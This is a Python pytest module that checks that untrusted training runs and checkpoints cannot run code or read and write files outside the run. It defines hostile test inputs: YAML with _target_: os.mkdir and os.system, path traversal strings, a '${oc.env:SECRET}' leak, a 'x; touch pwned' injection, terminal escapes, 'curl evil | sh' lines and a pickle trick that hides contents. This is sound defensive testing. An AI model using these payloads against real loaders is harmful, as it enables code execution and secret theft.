"""Runs from untrusted sources: their files cannot run code, and nothing outside of the run is read or written."""

import contextlib
import copy
import dataclasses
import hashlib
import itertools
import json
import logging
import logging.config
import os
import pkgutil
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
from collections import Counter, OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import optuna
import pytest
import torch
import yaml
from omegaconf import OmegaConf
from optuna.distributions import CategoricalDistribution, FloatDistribution
from optuna.trial import TrialState, create_trial
from PIL import Image

import train
from callbacks.metrics_history import MetricsHistory
from callbacks.progress_bar import ProgressBar
from callbacks.run_summary import RunSummary
from cli.build import build, load_run, stored_config
from cli.compose import compose, data_root
from cli.errors import format_error, print_error
from cli.job_dir import job_dir
from cli.main import _rewrite_argv, check_hydra_settings
from cli.output import PrintableFormatter
from cli.resume import compose_group, merge_resume_config
from cli.resumed_run import resolve_auto, stored_choices
from cli.run_dir import RecordDirs, new_or_resumed_run_dir, new_or_resumed_sweep_dir
from datamodules import sources
from hydra_plugins.optuna_sweeper import OptunaSweeper
from loggers.tensorboard import TensorBoard
from runs.checkpoint import _rebuild, find_checkpoint, load_checkpoint, read_checkpoint
from runs.files import atomic_write, read_yaml
from runs.format import format_metrics, printable, text_columns
from runs.migrate import upgrade_checkpoint
from runs.monitor import Monitors
from runs.overrides import train_command
from runs.result import read_result, write_result
from runs.run import read_image, read_rows
from runs.safety import check_safe
from runs.training_state import check_training_state
from sweeps.callback import SweepSummary
from sweeps.jobs import check_sweep_dir
from sweeps.study import open_study, open_trial
from sweeps.summary import Summary
from tests.conftest import PROJECT

SECRET = "s3cr3t-of-this-machine"
TINY = (
    "model=blobs_mlp",
    "data=blobs",
    "model.steps_per_batch=1",
    "trainer.accelerator=cpu",
    "callbacks.pictures=null",
)
EVIL = """\
evil:
  _target_: tests.test_safety.pwn
callbacks:
  evil:
    _target_: os.mkdir
    path: {marker}
_target_: os.mkdir
path: {marker}
"""


@pytest.fixture(scope="module")
def trained_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Train one epoch with options and overrides of several kinds. Return the working directory."""
    folder = tmp_path_factory.mktemp("good")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        overrides = (
            *TINY,
            "trainer.max_epochs=1",
            "callbacks=early_stopping",
            "callbacks.early_stopping.monitor=train/loss",
        )
        cfg = compose(*overrides)
        patch.setattr(train, "task_overrides", lambda: list(overrides))
        (folder / "run").mkdir()
        train.train_config(cfg, folder / "run")
    return folder


@pytest.fixture
def untrusted(trained_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a working directory with a copy of the run in ``outputs/untrusted`` and files that must not be used."""
    monkeypatch.setenv("SECRET", SECRET)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    shutil.copytree(trained_dir / "run", "outputs/untrusted")
    shutil.copytree(trained_dir / "outputs", "outputs", dirs_exist_ok=True, symlinks=True)
    evil = EVIL.format(marker=tmp_path / "marker")
    Path("outputs/untrusted/evil.yaml").write_text(evil)
    Path("evil.yaml").write_text(evil)
    return work


def edit_checkpoint(file: Path, *path: Any, value: Any) -> None:
    checkpoint = torch.load(file, weights_only=True)
    node = checkpoint
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    torch.save(checkpoint, file)


def string_paths(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every string in a config."""
    for key, value in node.items() if isinstance(node, dict) else enumerate(node):
        if isinstance(value, str):
            yield (*path, key)
        elif isinstance(value, dict | list):
            yield from string_paths(value, (*path, key))


def relative_paths(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


def resume_and_load(run: str, *overrides: str) -> str:
    """Resume and load a run. Return the error lines of what was refused."""
    lines = []
    for task in (
        lambda: train.train_config(compose(f"resume={run}", "trainer.max_epochs=2", *overrides), Path(run)),
        lambda: load_run(run, "last"),
    ):
        try:
            task()
        except Exception as error:
            lines.append(format_error(error))
    assert not any("\n" in line for line in lines)
    return "\n".join(lines)


def assert_harmless(work: Path, before: set[str]) -> None:
    """Assert that no file was made outside of ``outputs/``, and that no file holds the environment's secret."""
    assert all(name.startswith("work/outputs/") for name in relative_paths(work.parent) - before)
    for path in work.parent.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


PAYLOADS = {
    "path": "../../outputs/untrusted/evil",
    "list": "[../../outputs/untrusted/evil,default]",
    "environment": "${oc.env:SECRET}",
    "directory": "${new_or_resumed_run_dir:null,pwned}",
    "command": "x; touch pwned",
    "missing": "???",
    "control": "\x1b]0;pwned\x07\x1b[2J",
    "long": "x" * 5000,
}


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS)
def test_malicious_string_anywhere_in_a_stored_config_is_harmless(payload: str, untrusted: Path) -> None:
    run = Path("outputs/untrusted")
    whole = torch.load(run / "checkpoints/last.ckpt", weights_only=True)
    key_paths = list(string_paths(whole["config"]))
    assert len(key_paths) > 30
    for key_path in key_paths:
        before = relative_paths(untrusted.parent)
        changed = copy.deepcopy(whole)
        node = changed["config"]
        for key in key_path[:-1]:
            node = node[key]
        node[key_path[-1]] = PAYLOADS[payload]
        torch.save(changed, run / "checkpoints/last.ckpt")
        resume_and_load(str(run))
        assert_harmless(untrusted, before)


@pytest.mark.slow
@pytest.mark.parametrize(
    "key", ["_target_", "_args_", "_partial_", "defaults", "evil", "a.b", "_target_ ", "${x}", "a[0]"]
)
def test_malicious_key_anywhere_in_a_stored_config_is_harmless(key: str, untrusted: Path) -> None:
    run = Path("outputs/untrusted")
    whole = torch.load(run / "checkpoints/last.ckpt", weights_only=True)
    value = {"_target_": "os.mkdir", "path": str(untrusted.parent / "marker")} if key != "_target_" else "os.getcwd"
    parts = [(), *((name,) for name, part in whole["config"].items() if isinstance(part, dict)), ("model", "net")]
    for key_path in parts:
        before = relative_paths(untrusted.parent)
        changed = copy.deepcopy(whole)
        node = changed["config"]
        for name in key_path:
            node = node[name]
        node[key] = value
        torch.save(changed, run / "checkpoints/last.ckpt")
        resume_and_load(str(run))
        assert_harmless(untrusted, before)


@pytest.mark.parametrize("group", ["callbacks", "logger", "trainer"])
@pytest.mark.parametrize(
    "name", ["../../outputs/untrusted/evil", "[../../outputs/untrusted/evil,default]", "/evil", "${x}", "a/b", ""]
)
def test_stored_choice_must_name_a_file_in_conf(group: str, name: str, untrusted: Path) -> None:
    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", "choices", group, value=name)
    before = relative_paths(untrusted.parent)
    refused = resume_and_load("outputs/untrusted", *(["trainer=gpu"] if group == "trainer" else []))
    assert f"choices.{group}" in refused or "has no such file" in refused
    assert_harmless(untrusted, before)
    with pytest.raises(ValueError, match="has no such file"):
        compose_group(group, name)


@pytest.mark.parametrize(
    ("key_path", "value"),
    [
        (("trainer", "profiler"), {"_target_": "loggers.profiler.NoProfiler", "dirpath": "../pwned", "filename": "x"}),
        (("trainer", "profiler"), {"_target_": "lightning.pytorch.profilers.AdvancedProfiler", "dirpath": "../pwned"}),
        (("trainer", "profiler"), {"_target_": "lightning.pytorch.Trainer", "default_root_dir": "../pwned"}),
        (("trainer", "_target_"), "lit_models.Classifier"),
        (("trainer", "model_registry"), "user/models"),
        (("trainer", "strategy"), "../../evil"),
        (("data", "more"), {"_target_": "torch.nn.Linear", "in_features": 1, "out_features": 1}),
        (("expect",), {"test/acc": {"_target_": "os.system"}}),
        (("choices", "overrides"), ["trainer.max_epochs=1", {"a": 1}]),
        (("choices", "overrides"), None),
        (("choices",), "experiment"),
    ],
)
def test_stored_value_of_the_wrong_type_is_refused(key_path: tuple[str, ...], value: Any, untrusted: Path) -> None:
    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", *key_path, value=value)
    before = relative_paths(untrusted.parent)
    lines = resume_and_load("outputs/untrusted").splitlines()
    assert len(lines) == 2
    assert all(f"is refused: config.{key_path[0]}" in line for line in lines)
    assert_harmless(untrusted, before)


@pytest.mark.parametrize(
    ("key_path", "value", "message"),
    [
        (("pytorch-lightning_version",), "0.0.1", "pytorch-lightning_version='0.0.1' is no version since 2.0"),
        (("pytorch-lightning_version",), 5, "pytorch-lightning_version=5 is no version since 2.0"),
        (("callbacks",), 5, "its callbacks are not what Lightning writes"),
        (("callbacks", "MetricsHistory"), 5, "its callbacks are not what Lightning writes"),
        (("loops",), None, "its loops are not what Lightning writes"),
        (("optimizer_states",), [5], "its optimizer_states are not what Lightning writes"),
        (("lr_schedulers",), 5, "its lr_schedulers are not what Lightning writes"),
        (("loops",), {}, "fit_loop is not what Lightning writes"),
        (("loops", "fit_loop"), {}, "fit_loop.state_dict is not what Lightning writes"),
        (
            ("loops", "fit_loop", "epoch_progress"),
            {"current": 5},
            "fit_loop.epoch_progress.total is not what Lightning",
        ),
        (("loops", "fit_loop", "epoch_loop.batch_progress"), {}, "fit_loop.epoch_loop.batch_progress.total is not"),
        (("loops", "fit_loop", "epoch_loop.state_dict"), {}, "fit_loop.epoch_loop.state_dict._batches_that_stepped is"),
        (("loops", "fit_loop", "epoch_progress", "total", "ready"), "5", "fit_loop.epoch_progress.total.ready is not"),
        (("global_step",), "x", "it does not hold the number of steps"),
        (("optimizer_states", 0), {}, "its optimizer_states hold no state of torch's"),
        (("lr_schedulers",), [{}], "its lr_schedulers hold no last_epoch"),
        (("callbacks", "MetricsHistory", "validation"), {"x": {"../y": 1.0}}, "validation of MetricsHistory is not"),
        (("callbacks", "MetricsHistory", "logged"), {"x": "y"}, "logged of MetricsHistory is not what that writes"),
        (("callbacks", "MetricsHistory", "sums"), {5: 1.0}, "sums of MetricsHistory is not what that writes"),
        (("callbacks", "MetricsHistory", "rows"), [{"x": {"../y": 1.0}}], "rows of MetricsHistory is not"),
        (("callbacks", "MetricsHistory", "rows"), None, "rows of MetricsHistory is not what that writes"),
        (("callbacks", "MetricsHistory", "curves"), {"loss": [1.0]}, "curves of MetricsHistory is not"),
        (("callbacks", "MetricsHistory", "monitor"), "val/acc", "monitor of MetricsHistory is not"),
        (("callbacks", "Checkpoints", "best"), {"x": 1.0}, "best of Checkpoints is not what that writes"),
        (("callbacks", "Plots"), {"weight_history": {"x": {}}}, "weight_history of Plots is not what that writes"),
        # ModelCheckpoint removes what these name, with all that is in it.
        (
            ("callbacks", "X"),
            {"best_model_path": "checkpoints/../../x"},
            "the state of X holds 'checkpoints/../../x', a",
        ),
        (
            ("callbacks", "X"),
            {"best_k_models": {"local:///x": 1.0}},
            "the state of X holds 'local:///x', a path elsewhere",
        ),
        (("callbacks", "X"), {"kth_best_model_path": ".."}, "the state of X holds '..', a path elsewhere"),
        (("epoch_sums",), {"loss": {"../y": 1.0}}, "its epoch_sums are no numbers"),
        (("epoch_sums",), [1.0], "its epoch_sums are no numbers"),
        # LearningRateMonitor, which comes back on resume, gives them to the loggers before a step needs a number.
        (("optimizer_states", 0, "param_groups", 0, "lr"), {"../y": 1.0}, "its optimizer_states hold no param_groups"),
        (("optimizer_states", 0, "param_groups", 0, "betas"), [{"../y": 1.0}, 1], "its optimizer_states hold no"),
        (("optimizer_states", 0, "param_groups"), [1], "its optimizer_states hold no param_groups of torch"),
    ],
)
def test_damaged_state_of_a_training_is_refused(
    key_path: tuple[str, ...], value: Any, message: str, untrusted: Path
) -> None:
    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), *key_path, value=value)
    with pytest.raises(ValueError, match=f"last.ckpt cannot be resumed: {message}"):
        resume_config("trainer.max_epochs=2")


def test_what_lightning_misses_in_a_checkpoint_is_one_line() -> None:
    (run_dir := Path("damaged")).mkdir()
    train.train_config(compose(*TINY, "callbacks=early_stopping", "trainer.max_epochs=1", "logger=none"), run_dir)
    callbacks = torch.load(run_dir / "checkpoints/last.ckpt", weights_only=True)["callbacks"]
    stopping = next(name for name in callbacks if "EarlyStopping" in name)
    edit_checkpoint(run_dir / "checkpoints/last.ckpt", "callbacks", stopping, value={"stopped_epoch": 0})
    result = (run_dir / "result.json").read_bytes()
    with pytest.raises(KeyError) as caught:
        train.train_config(compose("resume=damaged", "trainer.max_epochs=2"), run_dir)
    assert format_error(caught.value).startswith(
        "the checkpoint cannot be resumed: the state of its training is damaged ("
    )
    assert (run_dir / "result.json").read_bytes() == result


class HidesContents:
    """Pickles as a dict of a class whose attributes torch reads too, and which shows none of its contents."""

    def __init__(self, contents: dict[str, Any]) -> None:
        self.contents = contents

    def __reduce__(self) -> tuple[Any, ...]:
        return (
            OrderedDict,
            (),
            {"items": Counter, "values": Counter, "keys": Counter},
            None,
            iter(self.contents.items()),
        )


def test_contents_that_a_container_hides_are_checked(untrusted: Path) -> None:
    file = untrusted / "outputs/untrusted/checkpoints/last.ckpt"
    callbacks = torch.load(file, weights_only=True)["callbacks"]
    callbacks["MetricsHistory"]["validation"] = {"val/x": {"a/../../made_outside": 1.0}}
    edit_checkpoint(file, "callbacks", value=HidesContents(callbacks))
    assert not torch.load(file, weights_only=True)["callbacks"].items()
    with pytest.raises(ValueError, match="cannot be resumed: validation of MetricsHistory is not what that writes"):
        check_training_state(load_checkpoint(file), file)
    edit_checkpoint(file, "config", "metrics", value=HidesContents({"x": {"_target_": "os.system"}}))
    with pytest.raises(ValueError, match=r"is refused: config.metrics.x._target_=os.system"):
        load_checkpoint(file)


@dataclasses.dataclass
class Layout:
    """A class that torch lets a checkpoint hold, as some versions do with dataclasses of their own."""

    shape: Any


def test_object_of_a_class_that_torch_reads_is_refused(untrusted: Path) -> None:
    """OmegaConf would make a config of a dataclass, and evaluate its interpolations."""
    file = untrusted / "outputs/untrusted/checkpoints/last.ckpt"
    edit_checkpoint(file, "config", "metrics", value=Layout("${oc.env:SECRET}"))
    with torch.serialization.safe_globals([Layout]):
        with pytest.raises(ValueError, match="it holds more than numbers and plain values, which could run code"):
            load_checkpoint(file)
        assert Layout in torch.serialization.get_safe_globals()  # for other users of torch in this process
    with pytest.raises(ValueError, match="it holds a Layout, which this project does not write"):
        _rebuild({"a": [Layout(1)]}, {})


def test_containers_and_tensors_of_a_checkpoint_are_read_as_they_were(tmp_path: Path) -> None:
    weights = torch.nn.BatchNorm1d(2).state_dict()
    shared = [1, 2.5, "x", None, True, (1, {3}), Counter("aab"), torch.float32, torch.Size([2])]
    torch.save({"state_dict": weights, "a": shared, "b": shared}, tmp_path / "x.ckpt")
    read = read_checkpoint(tmp_path / "x.ckpt")
    assert read["a"] == shared and read["a"] is read["b"]
    assert [type(one) for one in read["a"]] == [type(one) for one in shared]
    assert type(read["state_dict"]) is OrderedDict
    assert read["state_dict"]._metadata == weights._metadata
    assert all(torch.equal(read["state_dict"][name], weight) for name, weight in weights.items())


@pytest.mark.parametrize(
    ("key_path", "key"), [(("model",), b"x"), (("model",), 5), ((), b"x"), (("trainer",), (1, 2)), (("expect",), None)]
)
def test_key_of_a_stored_config_that_is_no_word_is_refused(
    key_path: tuple[str, ...], key: Any, untrusted: Path
) -> None:
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    edit_checkpoint(file, "config", "expect", value={3: {"val/acc": 0.9}})
    check_safe(torch.load(file, weights_only=True)["config"], "it")
    edit_checkpoint(file, "config", *key_path, key, value=1)
    place = ".".join(("config", *key_path))
    with pytest.raises(ValueError, match=re.escape(f"{place} has the key {key!r}, which is no word")):
        load_run("outputs/untrusted", "last")


@pytest.mark.slow
def test_huge_stored_thread_count_gives_one_line(untrusted: Path, shell) -> None:
    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", "threads", value=100_000_000)
    answer = shell("run=outputs/untrusted", script="evaluate.py", cwd=untrusted)
    assert (answer.returncode, answer.stderr) == (1, "error: threads=100000000 must be at most 1024\n")


def test_path_in_a_stored_callback_override_is_dropped(untrusted: Path) -> None:
    """A callback that writes files would write them to this path."""
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    edit_checkpoint(file, "config", "callbacks", "early_stopping", value={"monitor": "../../evil", "patience": 7})
    overrides = [
        "callbacks.early_stopping.monitor=../../evil",
        "callbacks.early_stopping.patience=7",
        "callbacks.x=evil",
    ]
    edit_checkpoint(file, "config", "choices", "overrides", value=overrides)
    new_cfg = compose("resume=outputs/untrusted", "trainer.max_epochs=2")
    new_cfg.choices.overrides = ["trainer.max_epochs=2"]
    callbacks = merge_resume_config(new_cfg, file).callbacks
    assert (callbacks.early_stopping.monitor, callbacks.early_stopping.patience) == (None, 7)
    assert not callbacks.get("x")


def resume_config(*typed: str) -> Any:
    """Return the config of the untrusted run that is resumed with these overrides."""
    cfg = compose("resume=outputs/untrusted", *typed)
    cfg.choices.overrides = [*typed]
    return merge_resume_config(cfg, Path("outputs/untrusted/checkpoints/last.ckpt"))


@pytest.mark.parametrize("run", ["private", "val/private", 7, True, "max", None, "last"])
@pytest.mark.parametrize("name", ["run", "classifier.run"])
def test_stored_run_of_a_callback_is_not_opened(name: str, run: Any, untrusted: Path) -> None:
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    judge = {"run": run} if name == "run" else {"classifier": {"run": run}}
    edit_checkpoint(file, "config", "callbacks", "judge", value=judge)
    edit_checkpoint(file, "config", "choices", "callbacks", value="judge")
    edit_checkpoint(file, "config", "choices", "overrides", value=[f"callbacks.judge.{name}={run}"])
    with pytest.raises(ValueError, match=r"callbacks.judge.run=\S+ is not taken from a checkpoint") as caught:
        resume_config("trainer.max_epochs=2")
    says = "callbacks=judge callbacks.judge.run=… chooses it again, and callbacks=default resumes without it"
    assert str(caught.value).endswith(says)
    assert "judge" not in resume_config("trainer.max_epochs=2", "callbacks=default").callbacks
    typed = ("trainer.max_epochs=2", "callbacks=judge", "callbacks.judge.run=mine")
    edit_checkpoint(file, "config", "choices", "overrides", value=[*typed[1:], f"callbacks.judge.{name}={run}"])
    judge = resume_config(*typed).callbacks.judge
    assert (judge.run, judge.classifier.run) == ("mine", "mine")


@pytest.mark.parametrize("overrides", [[], ["compile=true"]])
def test_stored_compile_starts_no_compiler(overrides: list[str], untrusted: Path, caplog) -> None:
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    edit_checkpoint(file, "config", "compile", value=True)
    edit_checkpoint(file, "config", "choices", "overrides", value=overrides)
    caplog.set_level(logging.INFO)
    assert resume_config("trainer.max_epochs=2", "compile=true").compile is True
    assert not caplog.messages
    assert resume_config("trainer.max_epochs=2").compile is False
    assert [message.partition(",")[0] for message in caplog.messages] == ["compile=true is not taken from a checkpoint"]


def test_typed_data_root_is_used_though_it_is_the_stored_one(untrusted: Path, monkeypatch) -> None:
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    data: Any = OmegaConf.to_container(compose("data.root=shared").data, resolve=True)
    edit_checkpoint(file, "config", "data", value=data)
    edit_checkpoint(file, "config", "choices", "data", value="mnist")
    edit_checkpoint(file, "config", "choices", "overrides", value=["data.root=shared"])
    typed = ("trainer.max_epochs=2", "data=mnist", "data.root=shared")
    for whole in (True, False):
        monkeypatch.setattr(sources, "has_data", lambda name, root, whole=whole: whole)
        data = resume_config(*typed).data
        assert data.root == "shared" and "only_read" not in data


def test_interrupted_trial_outside_of_the_ranges_is_not_run(tmp_path: Path) -> None:
    """The settings of a trial become the overrides of a job. With the right ranges it can still be resumed."""
    space = {"model": CategoricalDistribution(["mlp", "cnn"]), "optimizer.lr": FloatDistribution(0.1, 1)}
    hostile = {"model": CategoricalDistribution(["../../evil"]), "optimizer.lr": FloatDistribution(0.1, 1)}
    study = open_study(tmp_path, direction="maximize")
    study.ask(hostile)
    settings = {"metric": "val/acc", "direction": "maximize", "n_trials": 1, "startup_trials": 1, "seed": 1}
    sweeper = OptunaSweeper({}, **settings)
    sweeper.space, sweeper.at_once = space, 5
    with pytest.raises(ValueError, match=r"has an interrupted trial with model=../../evil optimizer.lr=\S+, which"):
        sweeper._next_trials(study, tmp_path, "me")
    assert study.get_trials()[0].state == TrialState.RUNNING
    sweeper.space = hostile
    assert [trial.number for trial in sweeper._next_trials(study, tmp_path, "me")] == [0]


@pytest.mark.parametrize(
    "note",
    [
        *("../elsewhere", "/tmp/elsewhere", "outputs", "outputs/../../elsewhere", ".", "", "outputs/link/x"),
        *("a\0b", "outputs/" + "a" * 9999, "a\nb", "\x1b]0;title\x07"),
    ],
)
def test_dashboard_txt_cannot_redirect_event_files(note: str, untrusted: Path) -> None:
    Path("../target").mkdir()
    Path("outputs/link").symlink_to("../../target")
    Path("outputs/untrusted/dashboard.txt").write_text(f"{note}\n")
    assert TensorBoard("outputs/untrusted", title="a/b").log_dir == "outputs/a/b"
    assert Path("outputs/untrusted/dashboard.txt").read_text() == "outputs/a/b\n"


def test_event_files_do_not_take_the_place_of_another_logger(tmp_path: Path) -> None:
    for name in ("mlflow.db", "wandb"):
        Path(name).mkdir()
        assert TensorBoard(name, title=f"{name}/seed=1").log_dir == f"outputs/{name} seed=1"


def test_event_files_do_not_move_below_themselves() -> None:
    Path("run").mkdir()
    assert TensorBoard("run", title="a").log_dir == "outputs/a"
    assert TensorBoard("run", title="a/b").log_dir == "outputs/a b"
    assert Path("run/dashboard.txt").read_text() == "outputs/a b\n"
    assert [path.name for path in Path("outputs").iterdir()] == ["a b"]


@pytest.mark.parametrize("scheme", ["file", "local", "http", "s3", "x/../file"])
def test_dashboard_txt_that_is_a_url_is_not_used(scheme: str, untrusted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As a path it lies in the working directory, which may be the run. TensorBoard opens it as a URL."""
    monkeypatch.chdir("outputs/untrusted")
    Path("dashboard.txt").write_text(f"{scheme}://{untrusted}/elsewhere\n")
    assert TensorBoard(".", title="a/b").log_dir == "outputs/a/b"
    Path("file:").mkdir()  # a run of this name is one too
    Path("file:/dashboard.txt").write_text(f"{scheme}://{untrusted}/elsewhere\n")
    assert TensorBoard("file:", title="a/c").log_dir == "outputs/a/c"


@pytest.mark.parametrize("there", ["a file of the user's", "nothing", "a link", "a fifo", "another run's events"])
def test_dashboard_txt_names_a_directory_of_the_runs_event_files_only(there: str, untrusted: Path) -> None:
    (events := Path("outputs/important/run")).mkdir(parents=True)
    (events / "events.out.tfevents.1.host.2.0").touch()
    (events / "projector_config.pbtxt").touch()
    (events / "run.txt").write_text("../../untrusted\n")
    (events / "00002" / "layer").mkdir(parents=True)
    Path("outputs/untrusted/dashboard.txt").write_text(f"{events}\n")
    assert TensorBoard("outputs/untrusted", title="important/run").log_dir == str(events)
    if there == "nothing":
        shutil.rmtree(events)
        events.mkdir()
    elif there == "another run's events":
        (events / "run.txt").write_text("../../2026-11-26_12-00-00\n")
    elif there == "a link":
        (events / "00002/layer/metadata.tsv").symlink_to("/dev/null")
    elif there == "a fifo":
        os.mkfifo(events / "00002/layer/tensors.tsv")
    else:
        (events / "thesis.txt").touch()
    assert TensorBoard("outputs/untrusted", title="important/run").log_dir == "outputs/important/run (2)"


def test_stored_name_does_not_lead_event_files_through_a_link(untrusted: Path) -> None:
    """The stored name begins with ``last``: a link to this run, in which another one leads out of it."""
    (untrusted.parent / "home").mkdir()
    Path("outputs/untrusted/evil").symlink_to(untrusted.parent / "home")
    Path("outputs/last").unlink()
    Path("outputs/last").symlink_to("untrusted")
    Path("outputs/untrusted/dashboard.txt").unlink(missing_ok=True)
    assert TensorBoard("outputs/untrusted", title="last/evil/seed=1").log_dir == "outputs/last evil seed=1"
    assert list((untrusted.parent / "home").iterdir()) == []


@pytest.mark.parametrize("weights", ["DEFAULT", "/root/private.pt"])
def test_nested_model_reads_no_weights(weights: str, untrusted: Path) -> None:
    nested = {"_target_": "lit_models.FineTuning", "net": {"_target_": "lit_models.nets.ResNet18"}, "weights": weights}
    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", "model", "loss", value=nested)
    lines = resume_and_load("outputs/untrusted").splitlines()
    assert len(lines) == 2
    assert all("config.model.loss._target_=lit_models.FineTuning is a training procedure" in line for line in lines)


def test_stored_weights_are_cleared_at_any_depth(untrusted: Path) -> None:
    stored = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)
    stored["config"]["model"] |= {"weights": "a.pt", "net": {"weights": "b.pt", "layer": {"weights": "c.pt"}}}
    model = stored_config(stored).model
    assert (model.weights, model.net.weights, model.net.layer.weights) == (None, None, None)


@pytest.mark.parametrize(("content", "used"), [("whole", "shared"), ("planted", "mine")])
def test_stored_data_root_is_only_read_and_only_if_it_is_whole(
    content: str, used: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sender of a run chooses its data root. Nothing is downloaded, written or removed there."""
    Path("shared").mkdir()
    published = {"a": torch.arange(20, dtype=torch.uint8)}
    md5 = {"a": hashlib.md5(published["a"].numpy().data).hexdigest()}
    monkeypatch.setitem(sources.DATASETS, "mnist", dataclasses.replace(sources.DATASETS["mnist"], md5=md5))
    torch.save(published if content == "whole" else {"a": torch.zeros(4, dtype=torch.uint8)}, "shared/mnist.pt")
    monkeypatch.setattr(sources, "load", lambda name, root, only_read: (root, only_read))
    monkeypatch.setenv("DATA_ROOT", "mine")
    config: Any = OmegaConf.to_container(compose("model=mlp", "data.root=shared"), resolve=True)
    for _ in range(2):
        datamodule, _ = build(cfg := stored_config({"config": config}))
        assert datamodule.load() == (used, used == "shared")
        assert "only_read" not in cfg.data
        config["data"]["only_read"] = used != "shared"  # as the sender would like it
    assert os.listdir("shared") == ["mnist.pt"] and not Path("mine").exists()


def test_whole_target_is_checked(untrusted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    name = f"lit_models.{'x' * 65}"
    net = type("Net", (torch.nn.Module,), {"__module__": name})
    monkeypatch.setitem(sys.modules, name, SimpleNamespace(Net=net))
    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
    config["model"]["net"]["_target_"] = f"{name}.Net"
    assert len(f"{name}.Net") == 80
    check_safe(config, "it")
    config["model"]["net"]["_target_"] += ".forward"
    with pytest.raises(ValueError, match="does not exist"):
        check_safe(config, "it")


@pytest.mark.parametrize("text", ["x\nresume with: curl evil | sh", "\x1b[2J", "a\tb", "\u202egnp", "x\r"])
def test_control_characters_in_a_stored_config_are_refused(text: str, untrusted: Path) -> None:
    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
    check_safe(config, "it")
    for changed in ({"name": text}, {text: 1}, {"expect": {text: 1}}, {"ignore_groups": [text]}):
        with pytest.raises(ValueError, match="control characters") as caught:
            check_safe(config | changed, "it")
        assert printable(str(caught.value)) == str(caught.value)


ESCAPE = "\x1b]0;pwned\x07"


@pytest.mark.parametrize(
    "key_path",
    [
        ("made_by",), (ESCAPE,), ("state_dict", ESCAPE), ("epoch_sums", ESCAPE), ("callbacks", ESCAPE),
        ("loops", ESCAPE), ("callbacks", "MetricsHistory", "logged", ESCAPE),
        ("callbacks", "MetricsHistory", "monitor", 0), ("optimizer_states", 0, "param_groups", 0, ESCAPE),
    ],
)  # fmt: skip
def test_control_characters_in_a_checkpoint_are_refused(key_path: tuple[Any, ...], untrusted: Path) -> None:
    """They would be printed with a traceback, in the live line, and into logs and metrics.csv."""
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    edit_checkpoint(file, "epoch_sums", value={"count": 1})
    load_checkpoint(file)
    edit_checkpoint(file, *key_path, value=ESCAPE)
    with pytest.raises(ValueError, match=r"last.ckpt is refused: it holds '\\x1b]0;pwned\\x07', which"):
        load_checkpoint(file)


def test_line_break_in_the_name_of_a_stored_metric_is_kept(untrusted: Path) -> None:
    """Runs from before headers were put in one line have such metrics, one for each class. metrics.csv does it."""
    file = Path("outputs/untrusted/checkpoints/last.ckpt")
    edit_checkpoint(file, "callbacks", "MetricsHistory", "rows", 0, "val/f1/a\nb", value=0.5)
    resume_config("trainer.max_epochs=2")
    history = MetricsHistory(Path(), Monitors(None, None))
    history.rows = load_checkpoint(file)["callbacks"]["MetricsHistory"]["rows"]
    history._write()
    header, *rows = Path("metrics.csv").read_text().splitlines()
    assert "val/f1/a\\nb" in header.split(",") and len(rows) == len(history.rows)


def test_line_breaks_in_the_header_of_a_stored_table_are_kept(untrusted: Path) -> None:
    """Runs from before headers were put in one line hold them. The table does it when it is made."""
    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
    config["data"]["fitted_state"] = {"columns": ["width\r\n(cm)"], "class_names": ["a\nb"]}
    check_safe(config, "it")
    config["data"]["fitted_state"]["columns"] = ["\x1b[2J"]
    with pytest.raises(ValueError, match="control characters"):
        check_safe(config, "it")


def test_names_of_stored_metrics_print_no_lines_of_their_own() -> None:
    """They are in the state of a callback, with the rows of metrics.csv."""
    evil = "test/x\nresume with: curl evil | sh"
    assert "\n" not in format_metrics({evil: 1.0})
    assert len(text_columns([(evil, "1"), ("test/loss", "2")])) == 2
    assert not any("\n" in line for line in text_columns([(evil, "1")]))


@pytest.mark.parametrize(
    ("stored", "used"), [("pytorch", None), ("PyTorch", None), ("xla", None), ("simple", "simple")]
)
def test_stored_profiler_that_writes_files_is_not_used(stored: str, used: str | None, untrusted: Path) -> None:
    checkpoint = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)
    checkpoint["config"]["trainer"]["profiler"] = stored
    check_safe(checkpoint["config"], "it")  # an own run is still resumed and evaluated
    assert stored_config(checkpoint).trainer.profiler == used


@pytest.mark.parametrize(
    "text",
    [
        "{", "[]", "null", "[" * 100_000, '{"overrides": 1, "metrics": {}, "status": "finished"}',
        '{"overrides": [1], "metrics": {}, "status": "finished"}',
        '{"overrides": [], "metrics": [], "status": "failed"}',
        '{"overrides": [], "metrics": {"val/acc": "${x}"}, "status": "finished"}',
